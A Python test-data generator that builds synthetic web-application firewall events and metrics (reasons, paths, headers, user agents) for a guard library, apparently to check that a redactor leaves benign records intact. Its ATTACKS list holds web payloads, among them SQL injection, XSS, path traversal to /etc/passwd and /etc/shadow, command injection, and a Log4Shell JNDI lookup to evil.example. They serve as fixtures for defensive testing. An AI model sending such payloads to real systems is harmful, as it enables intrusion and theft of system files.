"""
Events and metrics as guarded applications send them, with nothing in them that is a secret.

Texts are made of what real ones are made of: reasons of rules, paths and queries, user agents,
attack payloads, ids, hashes, times, numbers of orders, phones and versions, and prose about
passwords, tokens and sessions, which is what a redactor mistakes most.
"""

from __future__ import annotations

import hashlib
import random
import uuid
from datetime import datetime, timedelta, timezone
from typing import TYPE_CHECKING, Any

from guard_agent import SecurityEvent, SecurityMetric

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

REASONS = [
    "IP {ip} banned for {n} seconds after {k} violations",
    "Rate limit exceeded for {ip}: {n} requests in 60s (limit: 100)",
    "Rate limit exceeded on {path} ({n}/100 requests per minute)",
    "Suspicious activity detected for IP: {ip}",
    "Request blocked: path traversal in parameter 'file'",
    "SQL injection pattern {pattern} matched in query parameter 'q'",
    "User agent not allowed: {agent}",
    "Country {country} is blocked by policy",
    "Cloud provider AWS is blocked: {ip}",
    "Penetration attempt: {attack}",
    "Missing required header: X-Request-ID",
    "Missing header: Authorization",
    "Authentication required for {path}",
    "Invalid token: signature has expired",
    "Invalid bearer token",
    "Bearer token missing from the request",
    "Token has expired {k} minutes ago",
    "The access token was revoked by the administrator",
    "Login failed: wrong password for user alice",
    "Password must not be empty",
    "password: must be at least 12 characters",
    "Password: required, token: missing",
    "Password reset requested by user {n}",
    "Too many password attempts ({k} of 5) for account {n}",
    "The password policy was changed by admin",
    "Session expired after {k} minutes of inactivity",
    "session: expired, redirecting to /login",
    "Session {k} of {n} closed",
    "CSRF check failed: token mismatch",
    "CSRF cookie not set",
    "Cookie header too large: {n} bytes",
    "Honeypot form field was filled in",
    "Referrer https://{host}{path} is not allowed",
    "HTTPS required but the request came over http://{host}{path}",
    "Request to {path} outside of the time window 09:00-17:00",
    "Payload of {n} bytes is larger than the limit of 65536",
    "Content type application/x-www-form-urlencoded not accepted",
    "Behavioral rule 'frequency' triggered: {k} hits within 300s",
    "Behaviour pattern login->checkout->login repeated {k} times",
    "Custom rule {rule} matched (score={k}, threshold=5)",
    "Rule {rule} matched at line {k}, column {n}: {attack}",
    "Order {order} could not be paid: insufficient funds",
    "Invoice INV-{n}-{k} was opened from a new device",
    "Call-back requested for {phone}",
    "Parcel {parcel} is delayed by {k} days",
    "GET {path} -> 403 in {n} ms",
    "upstream timed out (110: Connection timed out) while reading from {host}:8080",
    "connection to redis://cache.internal:6379/0 refused",
    "could not connect to postgresql://db.internal:5432/shop: timeout",
    "Traceback: KeyError: 'user_id' in handlers.py line {k}",
    "ValueError: invalid literal for int() with base 10: '{n}'",
    "TimeoutError: no answer from {ip} within {k}.5 s",
    "JSONDecodeError: Expecting ',' delimiter: line 1 column {n} (char {n})",
    "Certificate for {host} expires on {date}",
    "Key rotation finished for tenant {n}, {k} keys replaced",
    "api key id {k} used from a new network",
    "The author of this change is Jane Doe <jane@example.com>",
    "Worker {k} restarted: memory limit of 512MiB reached",
    "Emergency mode enabled by operator at {time}",
    "Rules updated to version {k}: {n} addresses, {k} patterns",
    "Auth service answered 401 (code=invalid_grant)",
    "OAuth state parameter mismatch, code: 400",
    "2FA: code expired, please try again",
    "basic auth is not enabled for this endpoint",
    "Basic plan allows {n} requests, premium plan 10000",
    "checksum {sha256} does not match",
    "commit {sha1} deployed to production",
    "trace {trace} span {span} failed",
    "digest {md5} already seen",
    "Request {uuid} was retried {k} times",
]
PATHS = [
    "/", "/login", "/logout", "/oauth/token", "/oauth/authorize", "/api/v1/items/{n}",
    "/api/v1/users/{uuid}/sessions", "/password/reset", "/account/password", "/wp-login.php",
    "/static/app.{hex8}.js", "/images/{md5}.png", "/orders/{order}", "/search?q=shoes&page={k}",
    "/items?sort=price&order=asc&limit=20&offset={n}", "/reports/{date}/summary.pdf",
    "/api/token/refresh", "/sessions/{k}", "/.env", "/.git/config", "/../../etc/passwd",
    "/cgi-bin/test.cgi?a=1", "/files?name=report_{date}.csv", "/healthz", "/metrics",
    "/events?from={time}&to={time}", "/map?lat=52.520008&lon=13.404954&zoom={k}",
    "/shop?utm_source=news&utm_medium=mail&utm_campaign=summer_{k}", "/cart?item={n}&qty={k}",
    "/users?ids={n},{n},{n}", "/a%20b/c%2Fd", "/t/{trace}",
    "/reset/<string:token>/confirm", "/reset/<token>/confirm",
]  # fmt: skip
_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
AGENTS = [
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_WEBKIT} Chrome/{{chrome}} Safari/537.36",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_WEBKIT} Version/17.{{k}} Safari/605.1.15",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:12{k}.0) Gecko/20100101 Firefox/12{k}.0",
    f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_{{k}} like Mac OS X) {_WEBKIT} Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.{k}.1", "python-requests/2.3{k}.0", "Go-http-client/1.1", "okhttp/4.{k}.0",
    "sqlmap/1.7.{k}#stable (https://sqlmap.org)", "Nmap Scripting Engine", "Wget/1.21.{k}",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S90{k}B Build/TP1A.220624.014)",
    "PostmanRuntime/7.3{k}.0", "kube-probe/1.2{k}", "Datadog Agent/7.4{k}.0", "",
]  # fmt: skip
ATTACKS = [
    "' OR '1'='1' --", "1 UNION SELECT null, version(), user()--", "<script>alert({k})</script>",
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "; cat /etc/hosts", "$(id)",
    "{{{{7*7}}}}", "${{jndi:ldap://evil.example/a}}", '"><img src=x onerror=alert({k})>',
    "admin'/*", "sleep(5)#", "%00", "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/passwd", "() {{ :; }}; echo vulnerable", '{{"$ne": null}}',
    "SELECT * FROM users WHERE name = 'x' AND 1=1", "\\x3cscript\\x3e", "%3Csvg%20onload%3D1%3E",
    "<b>bold <i>{k}", "{k} < token > {n}",
]  # fmt: skip
KEYS = [
    ("request_id", "{uuid}"), ("correlation_id", "{uuid}"), ("trace_id", "{trace}"),
    ("traceparent", "00-{trace}-{span}-01"), ("etag", 'W/"{hex8}-{k}"'), ("sha256", "{sha256}"),
    ("order_id", "{order}"), ("order_number", "{order}"), ("phone", "{phone}"),
    ("tracking_number", "{parcel}"), ("user_id", "{n}"), ("account", "acct-{n}"),
    ("token_count", "{n}"), ("token_type", "bearer"), ("session_duration", "{k} minutes"),
    ("password_changed_at", "{time}"), ("auth_method", "password"), ("author", "Jane Doe"),
    ("cache_key", "items:{n}:{k}"), ("rate_limit_key", "{ip}:{path}"), ("partition_key", "{date}"),
    ("keyboard", "de-DE"), ("monkey", "banana"), ("secretary", "John Roe"), ("pinned", "yes"),
    ("build", "2026.{k}.{n}"), ("version", "{chrome}"), ("iban_country", "DE"),
    ("currency", "EUR"), ("amount", "{n}.99"), ("epoch_ms", "17{digits11}"), ("mac", "{mac}"),
    ("geo", "52.520008,13.404954"), ("color", "#{hex8}"), ("ja3", "{md5}"), ("asn", "AS{n}"),
    ("isbn", "978-3-16-1484{k}-0"), ("vat", "DE{n}{n}"), ("guard.rule", "{rule}"),
    ("guard.path", "{path}"), ("guard.pattern", "{pattern}"), ("cookies_enabled", "true"),
    ("tokens_left", "{n}"), ("passed_checks", "ip,agent,rate"), ("code", "{k}"), ("state", "open"),
    ("snowflake", "1{digits11}{digits6}"), ("nanoseconds", "17{digits11}{digits6}"),
    ("hash_algorithm", "argon2id"), ("signature_algorithm", "RS256"), ("key_size", "2048"),
]  # fmt: skip
HEADERS = [
    ("host", "{host}"), ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
    ("accept-language", "en-US,en;q=0.5"), ("accept-encoding", "gzip, deflate, br, zstd"),
    ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary{hex8}{hex8}"),
    ("content-length", "{n}"), ("referer", "https://{host}{path}"), ("x-request-id", "{uuid}"),
    ("x-forwarded-for", "{ip}, 10.0.0.{k}"), ("forwarded", "for={ip};proto=https"),
    ("if-none-match", '"{md5}"'), ("if-modified-since", "Mon, 05 Jan 2026 10:0{k}:00 GMT"),
    ("cache-control", "max-age=0"), ("sec-ch-ua", '"Chromium";v="12{k}", "Not_A Brand";v="8"'),
    ("sec-fetch-site", "same-origin"), ("origin", "https://{host}"), ("dnt", "1"),
    ("user-agent", "{agent}"), ("cf-ray", "{span}-FRA"), ("dnt", "1"),
    ("x-amzn-trace-id", "Root=1-{hex8}-{sha1}"),
    ("strict-transport-security", "max-age=31536000; includeSubDomains"), ("via", "1.1 varnish"),
    ("www-authenticate", 'Bearer realm="api", error="invalid_token"'), ("te", "trailers"),
]  # fmt: skip
TYPES = [
    "ip_banned", "rate_limited", "suspicious_request", "cloud_blocked", "country_blocked",
    "penetration_attempt", "behavioral_violation", "user_agent_blocked", "custom_rule_triggered",
]  # fmt: skip


class Corpus:
    """Draws benign records; the same seed draws the same."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)

    def events(self, amount: int) -> Iterator[SecurityEvent]:
        for _ in range(amount):
            yield self.event()

    def metrics(self, amount: int) -> Iterator[SecurityMetric]:
        for _ in range(amount):
            yield SecurityMetric(
                timestamp=self._moment(),
                metric_type=self._random.choice(["response_time", "request_count", "error_rate"]),
                value=self._random.random(),
                endpoint=self.fill(self._random.choice(PATHS)),
                tags={
                    "method": "GET",
                    "status": "200",
                    **{key: self.fill(text) for key, text in self._random.sample(KEYS, 3)},
                },
            )

    def event(self) -> SecurityEvent:
        draw = self._random
        metadata: dict[str, Any] = {
            key: self.fill(text) for key, text in draw.sample(KEYS, draw.randint(0, 8))
        }
        headers = {name: self.fill(text) for name, text in draw.sample(HEADERS, draw.randint(0, 8))}
        if headers:
            metadata["headers"] = headers
        if draw.random() < 0.2:
            metadata["numbers"] = [draw.randint(0, 10**12 - 1), draw.random() * 100, 0]
        return SecurityEvent(
            idempotency_key=uuid.UUID(int=draw.getrandbits(128), version=4),
            timestamp=self._moment(),
            event_type=draw.choice(TYPES),
            ip_address=self.fill("{ip}"),
            country=draw.choice(["DE", "US", "BR", "JP"]),
            user_agent=self.fill(draw.choice(AGENTS)),
            action_taken=draw.choice(["banned", "request_blocked", "logged_only"]),
            reason=self.fill(draw.choice(REASONS)),
            endpoint=self.fill(draw.choice(PATHS)),
            method=draw.choice(["GET", "POST", "PUT"]),
            status_code=draw.choice([200, 400, 401, 403, 429]),
            response_time=draw.random(),
            pattern_matched=self.fill(draw.choice(ATTACKS)) if draw.random() < 0.3 else None,
            metadata=metadata,
        )

    def fill(self, template: str) -> str:
        """``template`` with something drawn for each name in braces; twice, as paths have names."""
        drawn = {name: draw(self) for name, draw in PARTS.items() if f"{{{name}}}" in template}
        return template.format(**drawn)

    def hex(self, amount: int) -> str:
        return f"{self._random.getrandbits(amount * 4):0{amount}x}"

    def number(self, low: int, high: int) -> int:
        return self._random.randint(low, high)

    def pick(self, items: list[str]) -> str:
        return self._random.choice(items)

    def hashed(self, algorithm: str) -> str:
        return hashlib.new(algorithm, self.hex(16).encode()).hexdigest()

    def _moment(self) -> datetime:
        return datetime(2026, 1, 1, tzinfo=timezone.utc) + timedelta(
            seconds=self._random.randint(0, 10**7)
        )

    def moment(self) -> str:
        return self._moment().isoformat()


PARTS: dict[str, Callable[[Corpus], object]] = {
    "ip": lambda c: c.pick(
        [f"203.0.113.{c.number(1, 254)}", f"2001:db8:{c.hex(4)}::{c.hex(3)}", "198.51.100.7"]
    ),
    "n": lambda c: c.number(10, 99_999),
    "k": lambda c: c.number(1, 9),
    "digits11": lambda c: f"{c.number(0, 10**11 - 1):011d}",
    "digits6": lambda c: f"{c.number(0, 10**6 - 1):06d}",
    "host": lambda c: c.pick(["shop.example.com", "api.example.org", "www.example.net"]),
    "country": lambda c: c.pick(["KP", "RU", "BR"]),
    "path": lambda c: c.fill(c.pick(PATHS)),
    "agent": lambda c: c.fill(c.pick(AGENTS)),
    "attack": lambda c: c.fill(c.pick(ATTACKS)),
    "pattern": lambda c: c.pick(
        [r"(?i)union\s+select", r"<script[^>]*>", r"\.\./", r"\betc/passwd"]
    ),
    "rule": lambda c: c.pick([f"94{c.number(1000, 9999)}", "block-scanners", "vip_only", "R-17"]),
    "order": lambda c: c.pick(
        [
            f"{c.number(10**6, 10**10)}",
            f"2026-{c.number(10**5, 10**6)}",
            f"SO{c.number(10**7, 10**8)}",
        ]
    ),
    "phone": lambda c: c.pick(
        [
            f"+49 30 {c.number(10**6, 10**7)}",
            f"+1-555-{c.number(100, 999)}-{c.number(1000, 9999)}",
            f"0171/{c.number(10**6, 10**7)}",
            f"(0)20 7946 0{c.number(100, 999)}",
        ]
    ),
    "parcel": lambda c: c.pick(
        [f"1Z{c.hex(6).upper()}{c.number(10**9, 10**10)}", f"RR{c.number(10**8, 10**9)}DE"]
    ),
    "chrome": lambda c: c.pick(["120.0.0.0", f"12{c.number(0, 9)}.0.6{c.number(100, 999)}.109"]),
    "uuid": lambda c: str(uuid.UUID(int=int(c.hex(32), 16), version=4)),
    "trace": lambda c: c.hex(32),
    "span": lambda c: c.hex(16),
    "hex8": lambda c: c.hex(8),
    "md5": lambda c: c.hashed("md5"),
    "sha1": lambda c: c.hashed("sha1"),
    "sha256": lambda c: c.hashed("sha256"),
    "mac": lambda c: ":".join(c.hex(2) for _ in range(6)),
    "date": lambda c: c.moment()[:10],
    "time": lambda c: c.moment(),
}
